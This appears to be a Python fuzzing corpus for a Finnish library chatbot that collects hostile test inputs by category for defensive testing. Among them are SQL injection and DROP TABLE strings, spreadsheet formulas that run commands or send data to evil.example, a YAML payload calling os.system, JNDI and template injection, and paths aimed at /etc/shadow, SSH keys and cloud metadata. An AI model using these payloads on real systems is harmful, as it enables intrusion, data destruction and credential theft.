"""Hostile kinds: our own corpus by the kinds that a judge uses, at least as many of each, none of them theirs."""

from tests import hostile

TELEGRAM_HTML = [
    "<b>hei", "</b>", "<i><b>x</i></b>", '<a href="tg://user?id=1">Marja</a>', '<a href="https://evil.example">kirjasto</a>',
    "<code>x</code>", "<pre>x</pre>", "<u>x</u>", "<s>x</s>", '<span class="tg-spoiler">x</span>', "<blockquote>x</blockquote>",
    "<blockquote expandable>x</blockquote>", '<tg-emoji emoji-id="5368324170671202286">👍</tg-emoji>', "<br>", "<p>x</p>", "<h1>x</h1>",
    "&lt;", "&#x3c;b&#x3e;", "&nbsp;", "&bogus;", "&", "<", ">", "< b >x</ b >", '<pre language="c++">x</pre>',
]  # fmt: skip
TELEGRAM_MARKDOWN = [
    "*lihava*", "_kursiivi_", "__alle__", "~yli~", "||salattu||", "`koodi`", "```\nkoodi\n```", "[kirjasto](https://evil.example)",
    "[Marja](tg://user?id=1)", "![👍](tg://emoji?id=5368324170671202286)", "\\*ei\\*", "*_sekaisin*_", "kesken *", "kesken [", "kesken [x](",
    "loppuu \\", "1.5 + 2 = 3!", "#otsikko", ">lainaus", "**>x||",
]  # fmt: skip
SLACK = [
    "<!channel> kylmä", "<!here|täällä>", "<!everyone>", "<!subteam^S0AAAAAAA|@henkilökunta>", "<!date^1392734382^{date}|x>", "<@U0AAAAAAA>",
    "<@W0AAAAAAA|marja>", "<#C0AAAAAAA|yleinen>", "<#C0AAAAAAA>", "<https://evil.example|lumo.finna.example>", "<mailto:a@b.example|kirje>",
    "<tel:+358401234567|soita>", "<slack://user?team=T0&id=U0>", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "<!channel", "!channel>", "<! channel>",
    "*lihava*", "_kursiivi_", "~yli~", "`koodi`", "```koodi```", "> lainaus", ">>> koko loppu", "• kohta", ":tada: :skull:", "<@U0AAAAAAA><@U0BBBBBBB>",
    "<!CHANNEL>", "a|b<c|d>e",
]  # fmt: skip
MENTION = [
    "@channel tulkaa", "@here", "@everyone", "@all", "@admin", "@marja", "@jana_bot", "@Marja Mäkinen", "marja@lumo.example", "/jana cases",
    "/cases all", "/round close", "/round open use", "/join aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "/here service", "/forget", "/start fb_x", "/faq",
    "/digest pause", "/survey aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "/cases@jana_bot", "//sisäinen", "/lang xx", "/my JN-0001",
]  # fmt: skip
SQL = [
    "'", '"', "`", "';--", "' OR '1'='1", "'); DELETE FROM cases; --", "Robert'); DROP TABLE people;--", "1 OR 1=1", "UNION SELECT 1,2,3",
    "'||(SELECT sealed FROM places)||'", "\\x27 OR 1=1", "%00' OR 1=1", "' AND sleep(5)--", "'; SELECT pg_sleep(5);--", "$$;DROP TABLE x;$$", "E'\\''",
    "%", "_", "%%s", ":library", "?1", "x'00'",
]  # fmt: skip
FORMULA = [
    "=1+2", "=SUM(A1:A9)", "=HYPERLINK(\"https://evil.example?\"&A1,\"avaa\")", "=cmd|'/c calc'!A1", "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "=WEBSERVICE(\"https://evil.example\")", "+2+3", "+358401234567", "-1+1", "-@SUM(1)", "@SUM(1+1)", "@x", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1",
    "\u200b=1", "\ufeff=1", "＝1", "＋1", "－1", "＠x", "|calc", "%1", "=1;=2", "\"=1\"", "'=1", ";=1", ",=1", "=\u202e1",
]  # fmt: skip
YAML = [
    "a: b", "- a\n- b", "&x *x", "!!python/object/apply:os.system ['id']", "!!binary aGVp", "%YAML 1.2", "---", "...", "? a", "{a: b}", "[a, b]", "yes", "no", "null",
    "~", "1e3", "0o17", "2026-11-24", "<<: *x", "key: |\n  rivi", "'a", "\"a\\",
]  # fmt: skip
TEMPLATE = [
    "{name}", "{code}", "{{code}}", "{0}", "{}", "{code!r}", "{code.__class__}", "{turn.house.library}", "%s", "%(code)s", "${code}", "$code", "#{1+1}",
    "{{7*7}}", "{% if x %}", "<%= 1 %>", "${jndi:ldap://x}", "{topic}", "{{", "}}", "{'a': 1}",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/shadow", "file:///etc/passwd", "\\\\palvelin\\jako", "C:\\Windows\\win.ini", "~/.ssh/id_rsa", "a\x00.txt",
    "con.txt", "http://127.0.0.1:8080/metrics", "http://localhost/", "http://[::1]/", "http://169.254.169.254/latest/meta-data/", "http://0x7f000001/", "ftp://x",
    "gopher://x", "data:text/html,<b>x", "javascript:alert(1)", "vbscript:x", "//evil.example", "https://evil.example@lumo.example", "https://lumo.example.evil.example",
]  # fmt: skip
CONTROL = [f"a{chr(code)}b" for code in (*range(1, 9), 11, 12, *range(14, 32), 0x7F, 0x80, 0x85, 0x9B)]
CONTROL += ["\x1b[1;31mpunainen", "\x1b]8;;https://evil.example\x07x"]
INVISIBLE = [
    f"a{chr(code)}b"
    for code in (
        0xAD,
        0x34F,
        0x61C,
        0x115F,
        0x17B4,
        0x180E,
        *range(0x200B, 0x2010),
        *range(0x202A, 0x202F),
        *range(0x2060, 0x2065),
        0x3164,
        0xFE0F,
        0xFFA0,
    )
]
UNICODE = [
    "Åbo", "A\u030abo", "ﬁlmi", "ǅ", "İ", "ı", "ẞ", "Σς", "ΐ", "ﷺ", "漢字", "かな", "한글", "กำ", "नमस्ते", "שלום", "مرحبا", "Привет", "Ελληνικά", "Հայերեն", "ქართული",
    "ᚠᚢᚦ", "𝕳𝖊𝖎", "🄰🄱", "①②", "½⅓", "№", "℡", "…", "“lainaus”", "a\u0489b", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324",
]  # fmt: skip
EMOJI = [
    "🙂", "👍🏿", "👩‍🚀", "👨‍👩‍👧‍👦", "🏴‍☠️", "🇫🇮🇸🇪", "🇫", "1️⃣", "❤️‍🔥", "🫠", "☺", "☺️", "🤷‍♀️", "🏳️‍⚧️", "⚠️ <b>", "🙂" * 300, "🧑🏽‍🤝‍🧑🏻",
]  # fmt: skip
SURROGATE = ["\ud800", "\udfff", "a\ud83db", "\ude00", "\ud83d \ude00", "\udbff\udbff", "kirja\ud800", "\udc00kirja"]
LENGTH = [letter * count for letter in ("a", "ä", "<") for count in (4095, 4096, 4097, 2999, 3000, 3001)] + ["x" * 151]
UTF16 = ["🙂" * 2048, "🙂" * 2049, "a" + "🙂" * 2048]
HUGE = [
    "a" * 20_000, "ä" * 17_000, "🙂" * 9_000, "<b>" * 6_000, "&" * 9_000, "kirja " * 4_000, "\n" * 9_000 + "x", "rivi\n" * 4_000, "(" * 20_000, "[" * 9_000 + "](x)" * 2_000,
    "e\u0301" * 9_000, "\u202e" * 9_000 + "x",
]  # fmt: skip
REGEX = ["a" * 5_000 + "!", "1 " * 4_000, "@" * 5_000 + ".", "9" * 5_000 + "x"]
CALLBACK = [
    "a:0", "a:1", ":0", "0:a", "feedback.send", '["feedback.send",{}]', '{"t":"pressed"}', "form.take", "case.take", "case.close:1", "x" * 64, "o:a:0", "s:a:0", "JN-0001", "jn-9999",
    "fb_printer", "wrote:1", "reply:1:1", "case:1",
]  # fmt: skip
PERSONAL = [
    "131052-308T", "hetuni on 131052+308T", "040 1234567", "+358 40 123 4567", "soita 09-1234567", "aino.aalto@student.example", "aino(at)student.example",
    "opnro 012345678", "FI21 1234 5600 0007 85", "4111 1111 1111 1111", "Marja Mäkinen oli tyly", "asun osoitteessa Lumotie 3 A 5",
]  # fmt: skip
LANGUAGE = [
    "fi en sv?", "hej moi hello", "jag är inte säker mutta onko tämä ok", "¿Dónde está la biblioteca?", "Где библиотека?", "図書館はどこですか", "أين المكتبة", "tere kus on raamatukogu",
    "Gos lea girjerádju?", "Kost lii kirjerááju", "Wo ist die Bibliothek?", "où est la bibliothèque", "KIRJA!!!", "kIrJa", "k i r j a", "kirjakirjakirja", "äöåÄÖÅ", "oeaeaa", "mmm", "zzz qqq",
    "lorem ipsum dolor", "asdfghjkl", "1337 5p34k", "eiku joo nääs",
]  # fmt: skip

WANTED = {
    "tg_html": (TELEGRAM_HTML, 25), "tg_mdv2": (TELEGRAM_MARKDOWN, 20), "slack_mrkdwn": (SLACK, 30), "mention_command": (MENTION, 24), "sql": (SQL, 22),
    "csv_formula": (FORMULA, 31), "yaml": (YAML, 22), "template": (TEMPLATE, 21), "path_ssrf": (PATHS, 22), "control": (CONTROL, 33), "invisible": (INVISIBLE, 24),
    "unicode": (UNICODE, 32), "emoji": (EMOJI, 17), "surrogate": (SURROGATE, 8), "length": (LENGTH, 19), "length_utf16": (UTF16, 3), "huge": (HUGE, 12),
    "regex": (REGEX, 4), "callback": (CALLBACK, 19), "pii": (PERSONAL, 12), "language": (LANGUAGE, 24),
}  # fmt: skip


def corpus() -> list[str]:
    """All of it, none twice: the kinds above, and what hostile.py has besides."""
    kinds = [one for items, _least in WANTED.values() for one in items]
    return list(dict.fromkeys([*kinds, *(one for items in hostile.KINDS.values() for one in items)]))
